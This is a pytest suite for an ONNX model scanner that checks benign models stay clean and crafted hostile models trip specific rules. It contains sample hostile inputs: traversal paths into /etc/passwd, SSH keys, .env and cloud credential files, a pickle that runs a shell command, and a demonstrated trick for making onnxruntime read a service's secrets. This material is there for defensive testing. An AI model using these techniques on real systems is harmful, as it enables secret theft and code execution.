"""ONNX scanner: models written by onnx itself stay clean, one hand-crafted model per check trips exactly that
check, the sniff takes nothing else for ONNX, external data is located but never read, and damaged models
never crash or hang the scan."""

from __future__ import annotations

import io
import os
import re
import time
import zipfile
from collections.abc import Callable
from functools import cache
from pathlib import Path
from typing import Any

import numpy as np
import onnx
import pytest
from google.protobuf.message import DecodeError
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from onnx import ModelProto, TensorProto, helper, numpy_helper

from tests.helpers.scanning import default_engine, rule_ids, scan, scan_bytes
from wscan.config import Config
from wscan.engine import Engine
from wscan.limits import Budget, Limits
from wscan.model import Location, Observation, Severity
from wscan.rules import builtin_rules_dir
from wscan.rules.loader import load_pack
from wscan.scanners import onnx_checks, onnx_slim
from wscan.scanners.base import Artifact, Head, ScanContext
from wscan.scanners.onnx_model import MODEL_FIELDS, OnnxScanner, looks_like_onnx

T = TensorProto
CORPUS = Path(__file__).resolve().parents[2] / "corpus"
FUZZ_EXAMPLES = int(os.environ.get("WSCAN_FUZZ_EXAMPLES", "300"))  # raise it for a longer local run

# --- helpers -----------------------------------------------------------------------------------------


def write(folder: Path, model: ModelProto | bytes, name: str = "model.onnx") -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / name
    path.write_bytes(model if isinstance(model, bytes) else model.SerializeToString())
    return path


def observe(blob: bytes, path: Path | None = None, limits: Limits | None = None) -> list[Observation]:
    """Run the scanner alone (no engine safety net); `path` sets the folder external data resolves in."""
    limits = limits or Limits()
    artifact = Artifact(Location("m.onnx"), len(blob), lambda: io.BytesIO(blob), name="m.onnx", real_path=path)
    return [o for o in OnnxScanner().scan(artifact, ScanContext(limits, Budget(limits))) if isinstance(o, Observation)]


def value(name: str, dtype: int = T.FLOAT, shape: tuple[int, ...] = (2,)) -> onnx.ValueInfoProto:
    return helper.make_tensor_value_info(name, dtype, list(shape))


def opsets(*extra: tuple[str, int]) -> list[onnx.OperatorSetIdProto]:
    return [helper.make_opsetid("", 17), *(helper.make_opsetid(d, v) for d, v in extra)]


# --- benign models, written by onnx.helper -----------------------------------------------------------


def mlp() -> ModelProto:
    """A small MLP with initializers, metadata and doc strings of the ordinary kind."""
    w1 = numpy_helper.from_array(np.linspace(-1, 1, 12, dtype=np.float32).reshape(4, 3), "W1")
    b1 = numpy_helper.from_array(np.zeros(3, np.float32), "B1")
    w2 = numpy_helper.from_array(np.ones((3, 2), np.float16), "W2")
    shape = numpy_helper.from_array(np.array([1, 2], np.int64), "shape")
    nodes = [
        helper.make_node("MatMul", ["x", "W1"], ["h"], doc_string="first layer"),
        helper.make_node("Add", ["h", "B1"], ["h2"]),
        helper.make_node("Relu", ["h2"], ["h3"]),
        helper.make_node("Cast", ["h3"], ["h4"], to=T.FLOAT16),
        helper.make_node("MatMul", ["h4", "W2"], ["h5"]),
        helper.make_node("Reshape", ["h5", "shape"], ["y"]),
    ]
    doc = "A two-layer perceptron. Call model.eval() first."
    graph = helper.make_graph(nodes, "mlp", [value("x", shape=(1, 4))], [value("y", T.FLOAT16, (1, 2))],
                              [w1, b1, w2, shape], doc_string=doc)  # fmt: skip
    model = helper.make_model(graph, producer_name="wscan-tests", producer_version="1.0", opset_imports=opsets(),
                              doc_string="Exported for tests; see https://onnx.ai")  # fmt: skip
    helper.set_model_props(model, {"license": "apache-2.0", "author": "tests", "format": "{'a': 1}"})
    return model


def control_flow() -> ModelProto:
    """If, Loop and Scan, with initializers and Constant tensors inside the bodies."""
    then = helper.make_graph([helper.make_node("Constant", [], ["t"], value=numpy_helper.from_array(
        np.ones(2, np.float32), "tv"))], "then", [], [value("t")])  # fmt: skip
    other = helper.make_graph([helper.make_node("Constant", [], ["e"], value=numpy_helper.from_array(
        np.zeros(2, np.float32), "ev"))], "else", [], [value("e")])  # fmt: skip
    body = helper.make_graph(
        [helper.make_node("Identity", ["cond_in"], ["cond_out"]), helper.make_node("Add", ["v_in", "one"], ["v_out"])],
        "loop_body",
        [value("i", T.INT64, ()), value("cond_in", T.BOOL, ()), value("v_in")],
        [value("cond_out", T.BOOL, ()), value("v_out")],
        [numpy_helper.from_array(np.ones(2, np.float32), "one")],
    )
    scan_body = helper.make_graph(
        [helper.make_node("Add", ["s_in", "x_t"], ["s_out"]), helper.make_node("Identity", ["s_out"], ["y_t"])],
        "scan_body", [value("s_in"), value("x_t")], [value("s_out"), value("y_t")],
    )
    nodes = [
        helper.make_node("If", ["cond"], ["r"], then_branch=then, else_branch=other),
        helper.make_node("Loop", ["M", "cond", "r"], ["v_final"], body=body),
        helper.make_node("Scan", ["v_final", "seq"], ["s_final", "ys"], body=scan_body, num_scan_inputs=1),
    ]
    graph = helper.make_graph(nodes, "control_flow",
                              [value("cond", T.BOOL, ()), value("M", T.INT64, ()), value("seq", shape=(3, 2))],
                              [value("s_final"), value("ys", shape=(3, 2))])  # fmt: skip
    return helper.make_model(graph, opset_imports=opsets())


def with_functions() -> ModelProto:
    """A model-local function in its own domain, called from the graph."""
    function = helper.make_function(
        "local.fns", "AddRelu", ["a", "b"], ["c"],
        [helper.make_node("Add", ["a", "b"], ["s"]), helper.make_node("Relu", ["s"], ["c"])],
        opset_imports=opsets(), doc_string="adds, then clamps at zero",
    )  # fmt: skip
    call = helper.make_node("AddRelu", ["x", "W"], ["y"], domain="local.fns")
    weights = numpy_helper.from_array(np.ones(2, np.float32), "W")
    graph = helper.make_graph([call], "calls", [value("x")], [value("y")], [weights])
    return helper.make_model(graph, functions=[function], opset_imports=opsets(("local.fns", 1)))


def sparse_and_ml() -> ModelProto:
    """A sparse initializer and an ai.onnx.ml operator."""
    values = numpy_helper.from_array(np.array([1.0, 2.0], np.float32), "S")
    sparse = helper.make_sparse_tensor(values, numpy_helper.from_array(np.array([1, 5], np.int64), "S_idx"), [3, 4])
    nodes = [helper.make_node("Normalizer", ["x"], ["y"], domain="ai.onnx.ml")]
    outputs = [value("y", shape=(3, 4)), helper.make_sparse_tensor_value_info("S", T.FLOAT, [3, 4])]
    graph = helper.make_graph(nodes, "sparse_ml", [value("x", shape=(3, 4))], outputs, sparse_initializer=[sparse])
    return helper.make_model(graph, opset_imports=opsets(("ai.onnx.ml", 3)))


def with_template_metadata() -> ModelProto:
    """A harmless chat template in the metadata: checked, and clean."""
    model = mlp()
    template = "{% for m in messages %}{{ m['role'] }}: {{ m['content'] }}\n{% endfor %}"
    helper.set_model_props(model, {"chat_template": template})
    return model


BENIGN: dict[str, Callable[[], ModelProto]] = {
    "mlp": mlp, "control_flow": control_flow, "functions": with_functions, "sparse_ml": sparse_and_ml,
    "template": with_template_metadata,
}  # fmt: skip


def save_external(folder: Path, model: ModelProto | None = None, location: str = "weights.bin") -> Path:
    """A model saved the way onnx saves large models: every tensor in one external file beside it."""
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / "model.onnx"
    onnx.save_model(model or mlp(), path, save_as_external_data=True, all_tensors_to_one_file=True,
                    location=location, size_threshold=0)  # fmt: skip
    return path


def load_bare(path: Path) -> ModelProto:
    return onnx.load_model(path, load_external_data=False)


def check_all(model: ModelProto) -> None:
    """Benign fixtures must be valid by onnx's own strictest check first."""
    onnx.checker.check_model(model, full_check=True)


@pytest.fixture(scope="module")
def benign_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("benign_onnx")
    for name, build in BENIGN.items():
        model = build()
        check_all(model)
        write(folder, model, f"{name}.onnx")
    return folder


# --- the happy path ----------------------------------------------------------------------------------


def test_benign_models_have_no_findings(benign_dir: Path) -> None:
    report = default_engine().scan([benign_dir])
    assert [(f.rule_id, f.location.describe(), f.message) for f in report.findings] == []
    assert {f.status for f in report.files} == {"scanned"}
    assert all(f.formats == ("onnx",) for f in report.files)


def test_model_with_external_data_has_no_findings(tmp_path: Path) -> None:
    path = save_external(tmp_path / "ext", control_flow())
    save_external(tmp_path / "ext2")
    assert any(t.data_location == T.EXTERNAL for t in load_bare(path).graph.node[1].attribute[0].g.initializer)
    for model in (path, tmp_path / "ext2" / "model.onnx"):
        report = scan(model)
        assert [(f.rule_id, f.message) for f in report.findings] == []
        assert report.files[0].status == "scanned"


@pytest.mark.parametrize("jobs", [0, 2])
def test_external_data_file_in_a_folder_scan_is_claimed_by_its_model(tmp_path: Path, jobs: int) -> None:
    """weights.bin is raw floats no scanner reads; the model says it is its external data, so it is no finding
    (through workers too, which send a file no scanner read with its observations, to be settled again)."""
    save_external(tmp_path / "ext")
    report = Engine(Config(jobs=jobs)).scan([tmp_path / "ext"])
    assert report.findings == []
    weights = next(f for f in report.files if f.path.endswith("weights.bin"))
    assert (weights.formats, weights.status) == (("onnx-external-data",), "scanned")
    assert report.models[0].parameters == 12 + 3 + 6 + 2


def test_a_claimed_file_is_still_scanned(tmp_path: Path) -> None:
    """A pickle named as external data is still a pickle: claiming only silences 'unknown format'."""
    save_external(tmp_path / "ext")
    (tmp_path / "ext" / "weights.bin").write_bytes(b"cposix\nsystem\n(S'id'\ntR." + bytes(200))
    report = default_engine().scan([tmp_path / "ext"])
    assert "WS-PKL-001" in {f.rule_id for f in report.findings}


def test_external_data_through_a_symlink_inside_the_folder_is_fine(tmp_path: Path) -> None:
    (tmp_path / "m" / "data").mkdir(parents=True)
    path = save_external(tmp_path / "m", location="data/real.bin")
    os.symlink("data/real.bin", tmp_path / "m" / "alias.bin")
    model = load_bare(path)
    for tensor in model.graph.initializer:
        tensor.external_data[0].value = "alias.bin"
    assert rule_ids(scan(write(tmp_path / "m", model))) == set()


def test_hugging_face_cache_links_into_blobs_are_fine(tmp_path: Path) -> None:
    """In a Hugging Face cache both the model and its data file are links from the snapshot into blobs/."""
    saved = save_external(tmp_path / "saved")
    repo = tmp_path / "hub" / "models--org--name"
    (repo / "blobs").mkdir(parents=True)
    snapshot = repo / "snapshots" / "0123abcd"
    snapshot.mkdir(parents=True)
    for name, blob in (("model.onnx", "aaaa"), ("weights.bin", "bbbb")):
        (repo / "blobs" / blob).write_bytes((saved.parent / name).read_bytes())
        os.symlink(f"../../blobs/{blob}", snapshot / name)
    assert rule_ids(scan(snapshot / "model.onnx")) == set()


def test_real_models_shipped_with_onnx_are_clean() -> None:
    """Every model in onnx's backend test data: exporters' output from PyTorch, ML and string operators."""
    models = sorted((Path(onnx.__file__).parent / "backend" / "test" / "data").rglob("*.onnx"))
    assert len(models) > 100  # the onnx wheels on PyPI ship them; a build without them must not pass silently
    report = default_engine().scan(models)
    assert [(f.rule_id, f.location.path, f.message) for f in report.findings] == []
    assert {f.formats for f in report.files} == {("onnx",)}


def test_summary_fact(tmp_path: Path) -> None:
    found = observe(mlp().SerializeToString())
    assert [o.kind for o in found] == ["fact.onnx"]
    assert dict(found[0].attrs) == {
        "parameters": 12 + 3 + 6 + 2, "dtypes": "F16,F32,I64", "opset": 17, "producer": "wscan-tests 1.0",
        "nodes": 6, "initializers": 4, "ir_version": onnx.IR_VERSION,
    }  # fmt: skip
    report = scan(write(tmp_path, mlp()))
    (summary,) = report.models
    assert (summary.parameters, summary.dtypes, summary.formats) == (23, ("F16", "F32", "I64"), ("onnx",))


def test_fact_counts_nodes_in_every_graph_and_sparse_parameters() -> None:
    facts = {name: next(o for o in observe(build().SerializeToString()) if o.kind == "fact.onnx").attrs
             for name, build in BENIGN.items()}  # fmt: skip
    assert facts["control_flow"]["nodes"] == 3 + 1 + 1 + 2 + 2
    assert facts["functions"]["nodes"] == 1 + 2
    assert facts["sparse_ml"]["parameters"] == 12 and facts["sparse_ml"]["dtypes"] == "F32"


def test_every_onnx_data_type_has_a_name_and_a_size() -> None:
    assert set(onnx_checks.DTYPES) == {v for k, v in T.DataType.items() if k != "UNDEFINED"}
    assert onnx_checks.DTYPES[T.FLOAT] == ("F32", 32) and onnx_checks.DTYPES[T.BFLOAT16] == ("BF16", 16)
    for code, (name, bits) in onnx_checks.DTYPES.items():
        if bits is None:
            continue
        for count in (1, 5, 8):  # sub-byte types are packed: 5 four-bit values take 3 bytes
            zeros = np.zeros(count, dtype=helper.tensor_dtype_to_np_dtype(code))
            tensor = helper.make_tensor("t", code, [count], zeros, raw=True)
            assert len(tensor.raw_data) == onnx_checks.expected_bytes(tensor), name


# --- sniffing ----------------------------------------------------------------------------------------


def test_field_table_is_modelproto() -> None:
    wire = {9: 2, 11: 2, 3: 0, 12: 2}  # string, message, int64, bytes
    assert {f.number: wire[f.type] for f in ModelProto.DESCRIPTOR.fields} == MODEL_FIELDS


def _head(blob: bytes) -> Head:
    return Head(blob[:65536], blob[-65558:], len(blob), "x")


def test_accepts_real_models(benign_dir: Path, tmp_path: Path) -> None:
    blobs = [p.read_bytes() for p in benign_dir.iterdir()] + [save_external(tmp_path).read_bytes()]
    big = mlp()
    big.graph.initializer.append(numpy_helper.from_array(np.ones(100_000, np.float32), "big"))
    blobs.append(big.SerializeToString())
    for blob in blobs:
        assert OnnxScanner().accepts(_head(blob))
        assert not OnnxScanner().accepts(Head(blob, blob, len(blob), "x", raw_data=True))


def test_accepts_fields_in_any_order_and_overlong_tags() -> None:
    """Protobuf readers accept both, so a model written that way is still a model."""
    blob = mlp().SerializeToString()
    assert blob.startswith(b"\x08")
    ir = blob[:2]
    assert looks_like_onnx(blob[2:] + ir, len(blob))  # ir_version last
    assert looks_like_onnx(b"\x88\x00" + blob[1:], len(blob) + 1)  # the tag as a two-byte varint


@pytest.mark.parametrize(
    "blob",
    [
        b"", b"\x08", b"\x08\x07", b"\x08\x00:\x00", b"\x08\x63:\x00", b"\x08\x02:\x00",  # no graph, IR 0, 99, 2
        b"\x08\x01\x12\x07\x0a\x05\x12\x03tag" + bytes(70_000),  # a TensorFlow SavedModel: schema 1, MetaGraphDef
        b"\x80\x04\x95\x00\x00.", b"(dp0\n.", b"PK\x03\x04" + bytes(30), b"GGUF\x03\x00\x00\x00", b"\x93NUMPY",
        b'{"a": 1}', b"# README\nhello\n", b"\x1f\x8b\x08\x00", b"BZh91AY&SY", b"7z\xbc\xaf\x27\x1c",
        b"\x10\x00\x00\x00\x00\x00\x00\x00{}" + bytes(8),  # safetensors with a tiny header
        numpy_helper.from_array(np.ones(3, np.float32), "t").SerializeToString(),  # a TensorProto .pb
        b"\x08\x07\x12\x04test\x50\x01",  # an unknown field number
        b"\x08\x07\x3d\x00\x00\x00\x00",  # the graph's field number with a fixed32 wire type
    ],
)
def test_rejects_other_formats(blob: bytes) -> None:
    assert not OnnxScanner().accepts(_head(blob))


def test_truncated_model_with_ir_version_is_still_onnx() -> None:
    blob = mlp().SerializeToString()
    assert looks_like_onnx(blob[:40], 40)
    assert looks_like_onnx(b"\x08\x07\x3a\x01", 4)  # the graph runs past the end of the file
    assert not looks_like_onnx(blob[:1], 1)


def test_no_corpus_file_is_taken_for_onnx() -> None:
    files = [p for p in CORPUS.rglob("*") if p.is_file() and not p.is_symlink()]
    assert len(files) > 100
    # The disguised sample is taken by the lenient sniff only, after every other format declined it.
    ordinary = [p for p in files if "disguised" not in p.name]
    taken = [p for p in ordinary if OnnxScanner().accepts(_head(p.read_bytes())) != p.name.endswith(".onnx")]
    assert taken == []
    disguised = [p for p in files if "disguised" in p.name]
    assert disguised and not any(OnnxScanner().accepts(_head(p.read_bytes())) for p in disguised)


def test_no_corpus_member_but_the_onnx_samples_is_taken_for_onnx() -> None:
    report = default_engine().scan([CORPUS])
    taken = {f.path for f in report.files if "onnx" in f.formats}
    assert taken and all(path.endswith(".onnx") for path in taken)
    assert len(taken) == sum(1 for p in CORPUS.rglob("*.onnx"))


# --- hostile models: one per check -------------------------------------------------------------------


def external_variant(folder: Path, edit: Callable[[TensorProto], None], model: ModelProto | None = None) -> Path:
    """An external-data model whose first initializer's entry is edited after saving."""
    path = save_external(folder, model)
    bare = load_bare(path)
    edit(bare.graph.initializer[0])
    return write(folder, bare)


def set_entry(key: str, text: str) -> Callable[[TensorProto], None]:
    def edit(tensor: TensorProto) -> None:
        for entry in tensor.external_data:
            if entry.key == key:
                entry.value = text
                return
        tensor.external_data.add(key=key, value=text)

    return edit


ESCAPES = ["/etc/passwd", "../x", "a/../../x", "C:\\x", "C:x", "\\\\server\\share\\w.bin", "//server/share/w.bin",
           "http://x", "https://evil.example/w.bin", "file:///etc/passwd", "a\\..\\..\\x", "\\x", "w.bin\x00.txt", "",
           "*/_ORT_MEM_ADDR_/*",
           # what a model given as bytes reads from the working directory (helper 257): hidden names, keys, system
           ".env", "sub/.git/config", ".ssh\\id_rsa", "keys/id_ed25519", "etc/passwd", "proc/self/environ",
           # ... and, from helper 260, names a project keeps its secrets under, and paths into /tmp
           "credentials.json", "secrets.toml", "config/Secrets.yaml", "certs/server.pem", "tmp/session.key",
           # helper 261
           "service-account.json", "client_secret.json", "application_default_credentials.json", "config/master.key",
           "private.key", "keys/id_ed25519_sk", "db.sqlite3", "terraform.tfstate", "token.json", "auth.json",
           "wp-config.php", "apikey.txt"]


@pytest.mark.parametrize("location", ESCAPES)
def test_external_data_escape(tmp_path: Path, location: str) -> None:
    report = scan(external_variant(tmp_path, set_entry("location", location)))
    assert rule_ids(report) == {"WS-ONNX-004"}
    assert report.findings[0].evidence["location"] == location
    assert report.findings[0].severity == Severity.HIGH


@pytest.mark.parametrize("offset", ["00000000000000000000", "+0", " 0", "0_0"])
def test_an_escape_with_a_malformed_offset_is_still_an_escape(tmp_path: Path, offset: str) -> None:
    """onnxruntime 1.19 reads an offset of twenty zeros or "+0" and then the file outside the folder: the malformed
    number is one finding, the location still another."""
    def edit(tensor: TensorProto) -> None:
        set_entry("location", "../../secret.bin")(tensor)
        set_entry("offset", offset)(tensor)

    report = scan(external_variant(tmp_path, edit))
    assert rule_ids(report) == {"WS-ONNX-004", "WS-ONNX-009"}


def test_external_data_symlink_out_of_the_folder(tmp_path: Path) -> None:
    secret = tmp_path / "outside" / "secret.bin"
    secret.parent.mkdir()
    secret.write_bytes(bytes(100))
    path = save_external(tmp_path / "m", location="link.bin")
    (tmp_path / "m" / "link.bin").unlink()
    os.symlink(secret, tmp_path / "m" / "link.bin")
    report = scan(path)
    assert rule_ids(report) == {"WS-ONNX-004"}
    assert report.findings[0].evidence["reason"] == "symbolic link leaves the model folder"


def test_external_data_from_the_working_directory_of_a_bytes_load(tmp_path: Path) -> None:
    """Helper 257: onnxruntime given the model as bytes reads external data from its working directory, so a decoy
    `.env` in the model folder (what path loads and a folder scan see) hides that it reads the service's own."""
    ort = pytest.importorskip("onnxruntime")
    weight = TensorProto(name="W", data_type=TensorProto.UINT8, dims=[16], data_location=TensorProto.EXTERNAL)
    weight.external_data.add(key="location", value=".env")
    graph = helper.make_graph([helper.make_node("Identity", ["W"], ["Y"])], "g", [],
                              [helper.make_tensor_value_info("Y", TensorProto.UINT8, [16])], initializer=[weight])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)], ir_version=9)
    path = write(tmp_path / "model", model)
    (tmp_path / "model" / ".env").write_bytes(bytes(16))  # the decoy
    service = tmp_path / "service"
    service.mkdir()
    (service / ".env").write_bytes(b"API_KEY=s3cr3t!!")
    cwd = Path.cwd()
    os.chdir(service)
    try:
        read = ort.InferenceSession(path.read_bytes()).run(None, {})[0].tobytes()
    finally:
        os.chdir(cwd)
    assert read == b"API_KEY=s3cr3t!!"  # the real loader read the working directory's file
    assert ort.InferenceSession(str(path)).run(None, {})[0].tobytes() == bytes(16)  # a path load reads the decoy
    report = scan(path)
    assert rule_ids(report) == {"WS-ONNX-004"}
    assert report.findings[0].evidence["reason"].startswith("hidden name")


@pytest.mark.parametrize("location", ["model.onnx.data", "model.onnx_data", "onnx__MatMul_1234", "encoder.layer.0.w",
                                      "weights/etc.bin", "var.bin", "sub/home_weights.bin",
                                      # onnx names a data file after its tensor: BatchNorm's `var` (helper 260)
                                      "var", "tmp", "attn.key", "embed_tokens.weight", "tokens",
                                      "model.layers.0.self_attn.key.weight"])
def test_data_file_names_exporters_write_stay_inside(tmp_path: Path, location: str) -> None:
    folder = tmp_path / "m"
    folder.mkdir()
    path = external_variant(folder, set_entry("location", location))
    (folder / location).parent.mkdir(parents=True, exist_ok=True)
    (folder / location).write_bytes((folder / "weights.bin").read_bytes())
    assert rule_ids(scan(path)) == set()


def test_external_data_hard_link(tmp_path: Path) -> None:
    path = save_external(tmp_path / "m")
    os.link(tmp_path / "m" / "weights.bin", tmp_path / "elsewhere.bin")
    assert rule_ids(scan(path)) == {"WS-ONNX-007"}


@pytest.mark.parametrize("location", ["missing.bin", "sub"])
def test_external_data_missing(tmp_path: Path, location: str) -> None:
    (tmp_path / "sub").mkdir()
    report = scan(external_variant(tmp_path, set_entry("location", location)))
    assert rule_ids(report) == {"WS-ONNX-006"}
    assert report.findings[0].severity == Severity.MEDIUM


@pytest.mark.parametrize(("key", "number"), [("offset", "41"), ("offset", "10000"), ("length", "1000")])
def test_external_data_out_of_bounds(tmp_path: Path, key: str, number: str) -> None:
    report = scan(external_variant(tmp_path, set_entry(key, number)))
    assert (tmp_path / "weights.bin").stat().st_size == 48 + 12 + 12 + 16  # W1 at 0 and 48 bytes long
    assert rule_ids(report) == {"WS-ONNX-008"}


def test_external_data_shorter_than_the_shape_needs(tmp_path: Path) -> None:
    def edit(tensor: TensorProto) -> None:
        del tensor.external_data[1:]  # location only: the loader reads what the shape needs from offset 0
        del tensor.dims[:]
        tensor.dims.extend([1000, 3])

    assert rule_ids(scan(external_variant(tmp_path, edit))) == {"WS-ONNX-008"}


def test_external_data_length_differs_from_the_shape(tmp_path: Path) -> None:
    report = scan(external_variant(tmp_path, set_entry("length", "44")))
    assert rule_ids(report) == {"WS-ONNX-010"}
    assert (report.findings[0].evidence["expected"], report.findings[0].evidence["actual"]) == (48, 44)


def _no_location(tensor: TensorProto) -> None:
    kept = [(e.key, e.value) for e in tensor.external_data if e.key != "location"]
    del tensor.external_data[:]
    for key, text in kept:
        tensor.external_data.add(key=key, value=text)


def _duplicate_location(tensor: TensorProto) -> None:
    tensor.external_data.add(key="location", value="weights.bin")


def _not_marked(tensor: TensorProto) -> None:
    tensor.ClearField("data_location")


def _inline_too(tensor: TensorProto) -> None:
    tensor.float_data.extend([0.0] * 12)


@pytest.mark.parametrize(
    "edit", [_no_location, set_entry("offset", "-1"), set_entry("length", "0x30"), _duplicate_location, _not_marked,
             _inline_too],
)  # fmt: skip
def test_external_data_bad_entry(tmp_path: Path, edit: Callable[[TensorProto], None]) -> None:
    assert rule_ids(scan(external_variant(tmp_path, edit))) == {"WS-ONNX-009"}


def test_external_data_inside_a_zip_member(tmp_path: Path) -> None:
    path = save_external(tmp_path / "m")
    escaping = load_bare(path)
    for tensor in escaping.graph.initializer:
        tensor.external_data[0].value = "../../etc/passwd"
    bundle = tmp_path / "bundle.zip"
    with zipfile.ZipFile(bundle, "w") as zf:
        zf.write(path, "model/model.onnx")
        zf.write(tmp_path / "m" / "weights.bin", "model/weights.bin")
    assert rule_ids(scan(bundle)) >= {"WS-ONNX-005"}
    assert {f.rule_id for f in scan(bundle).findings if f.location.member == "model/model.onnx"} == {"WS-ONNX-005"}
    with zipfile.ZipFile(tmp_path / "evil.zip", "w") as zf:
        zf.writestr("model.onnx", escaping.SerializeToString())
    assert rule_ids(scan(tmp_path / "evil.zip")) == {"WS-ONNX-004"}


@pytest.mark.parametrize("where", ["if_branch", "loop_body", "function_constant", "sparse_values", "sparse_indices",
                                   "training", "function_default", "graph_constant"])  # fmt: skip
def test_external_data_is_found_at_any_depth(tmp_path: Path, where: str) -> None:
    model = _nested_external(where, "/etc/passwd")
    report = scan(write(tmp_path, model))
    assert rule_ids(report) == {"WS-ONNX-004"}, [f.message for f in report.findings]


def _external(tensor: TensorProto, location: str) -> TensorProto:
    nbytes = onnx_checks.expected_bytes(tensor) or 0
    for name in ("raw_data", "float_data", "int64_data"):
        tensor.ClearField(name)  # type: ignore[arg-type]
    tensor.data_location = T.EXTERNAL
    for key, text in (("location", location), ("offset", "0"), ("length", str(nbytes))):
        tensor.external_data.add(key=key, value=text)
    return tensor


def _nested_external(where: str, location: str) -> ModelProto:
    if where in ("if_branch", "loop_body"):
        model = control_flow()
        node = model.graph.node[0 if where == "if_branch" else 1]
        body = node.attribute[0].g
        target = body.node[0].attribute[0].t if where == "if_branch" else body.initializer[0]
        _external(target, location)
        return model
    if where == "function_constant":
        model = with_functions()
        const = helper.make_node("Constant", [], ["k"], value=numpy_helper.from_array(np.ones(2, np.float32), "kv"))
        function = model.functions[0]
        function.node.insert(0, const)  # its output is unused: still a valid body
        _external(function.node[0].attribute[0].t, location)
        return model
    if where == "function_default":
        model = with_functions()
        default = _external(numpy_helper.from_array(np.ones(2, np.float32), "alpha"), location)
        model.functions[0].attribute_proto.append(helper.make_attribute("alpha", default))
        return model
    if where.startswith("sparse"):
        model = sparse_and_ml()
        sparse = model.graph.sparse_initializer[0]
        _external(sparse.values if where == "sparse_values" else sparse.indices, location)
        return model
    if where == "training":
        model = sparse_and_ml()
        rate = _external(numpy_helper.from_array(np.ones(2, np.float32), "lr"), location)
        algorithm = helper.make_graph([helper.make_node("Identity", ["x"], ["y"])], "alg", [value("x")], [value("y")],
                                      [rate])  # fmt: skip
        model.training_info.append(helper.make_training_info(algorithm, [], None, []))
        return model
    model = mlp()
    constant = numpy_helper.from_array(np.ones(2, np.float32), "c")
    model.graph.node.append(helper.make_node("Constant", [], ["c"], value=_external(constant, location)))
    return model


def test_custom_domain(tmp_path: Path) -> None:
    model = mlp()
    model.graph.node[2].domain = "evil.custom"
    model.graph.node[2].op_type = "LoadMyLibrary"
    model.opset_import.append(helper.make_opsetid("evil.custom", 1))
    report = scan(write(tmp_path, model))
    assert rule_ids(report) == {"WS-ONNX-012"}
    assert report.findings[0].evidence["op"] == "LoadMyLibrary" and report.findings[0].severity == Severity.MEDIUM


def test_onnxruntime_contrib_domain_is_low(tmp_path: Path) -> None:
    model = mlp()
    model.graph.node[2].domain = "com.microsoft"
    model.graph.node[2].op_type = "FastGelu"
    model.opset_import.append(helper.make_opsetid("com.microsoft", 1))
    report = scan(write(tmp_path, model))
    assert rule_ids(report) == {"WS-ONNX-013"} and report.findings[0].severity == Severity.LOW


@pytest.mark.parametrize(
    ("op", "domain", "opset", "expected"),
    [
        ("SimplifiedLayerNormalization", "", 21, {"WS-ONNX-020"}),  # what onnxruntime-genai's builder writes
        ("LayerNormalization", "", 16, {"WS-ONNX-020"}),  # onnxruntime's own, before ONNX defined it
        ("LayerNormalization", "", 17, set()),  # ONNX's since opset 17
        ("ImageScaler", "", 17, {"WS-ONNX-020"}),
        ("SimplifiedLayerNormalization", "ai.onnx.ml", 3, {"WS-ONNX-014"}),  # only the ONNX domain
        ("RMSNormalization2", "", 21, {"WS-ONNX-014"}),
    ],
)
def test_onnxruntimes_own_operators_in_the_onnx_domain_are_low(
    tmp_path: Path, op: str, domain: str, opset: int, expected: set[str]
) -> None:
    """onnxruntime registers a few operators of its own in the ONNX domain (helper 207: onnxruntime-genai's builder
    writes SimplifiedLayerNormalization there, which onnxruntime runs and WS-ONNX-014 reported, medium)."""
    scale = helper.make_tensor("s", T.FLOAT, [2], [1.0, 1.0])
    node = helper.make_node(op, ["x", "s"], ["y"], domain=domain, axis=-1, epsilon=1e-5)
    graph = helper.make_graph([node], "g", [value("x", shape=(1, 2))], [value("y", shape=(1, 2))], [scale])
    imports = opsets((domain, opset)) if domain else [helper.make_opsetid("", opset)]
    model = helper.make_model(graph, opset_imports=imports)
    report = scan(write(tmp_path, model))
    assert rule_ids(report) == expected, [(f.rule_id, f.message) for f in report.findings]


def test_many_onnxruntime_operators_never_hide_another_domain(tmp_path: Path) -> None:
    """Operators from custom domains were reported up to a hundred in all: a hundred made-up com.microsoft ones (low)
    hid a node of another domain (medium: a native library the application registers) after them (helper 208)."""
    nodes = [helper.make_node(f"Fake{index}", ["x"], [f"y{index}"], domain="com.microsoft") for index in range(101)]
    nodes.append(helper.make_node("Evil", ["x"], ["y"], domain="evil.ops"))
    graph = helper.make_graph(nodes, "g", [value("x")], [value("y")])
    model = helper.make_model(graph, opset_imports=opsets(("com.microsoft", 1), ("evil.ops", 1)))
    assert "WS-ONNX-012" in rule_ids(scan(write(tmp_path, model)))


@pytest.mark.parametrize("where", ["graph", "subgraph", "function"])
def test_unknown_operator(tmp_path: Path, where: str) -> None:
    if where == "graph":
        model = mlp()
        model.graph.node[2].op_type = "Relux"
    elif where == "subgraph":
        model = control_flow()
        model.graph.node[1].attribute[0].g.node[1].op_type = "Relux"
    else:
        model = with_functions()
        model.functions[0].node[1].op_type = "Relux"
    report = scan(write(tmp_path, model))
    assert rule_ids(report) == {"WS-ONNX-014"}, [f.message for f in report.findings]
    assert report.findings[0].evidence["op"] == "Relux"


def test_operator_newer_than_the_declared_opset_is_unknown(tmp_path: Path) -> None:
    model = mlp()
    model.graph.node.append(helper.make_node("Gelu", ["y"], ["z"]))  # Gelu is opset 20
    assert rule_ids(scan(write(tmp_path, model))) == {"WS-ONNX-014"}


@pytest.mark.parametrize("where", ["model", "function"])
def test_opset_newer_than_onnx_knows(tmp_path: Path, where: str) -> None:
    model = with_functions()
    imports = model.opset_import if where == "model" else model.functions[0].opset_import
    imports[0].version = onnx.defs.onnx_opset_version() + 12
    report = scan(write(tmp_path, model))
    assert rule_ids(report) == {"WS-ONNX-015"}
    assert report.files[0].status == "scanned"


def test_checker_failure(tmp_path: Path) -> None:
    model = mlp()
    model.graph.node[1].input[0] = "undefined"
    report = scan(write(tmp_path, model))
    assert rule_ids(report) == {"WS-ONNX-016"}
    assert "topologically sorted" in report.findings[0].message


def test_nodes_out_of_order_are_judged_as_onnxruntime_sorts_them(tmp_path: Path) -> None:
    """onnxruntime's float16 converter appends its Casts after the nodes that read them (a real file of it); a model
    written in reverse order too. onnxruntime sorts the nodes when it loads a model, so the sorted graph is checked."""
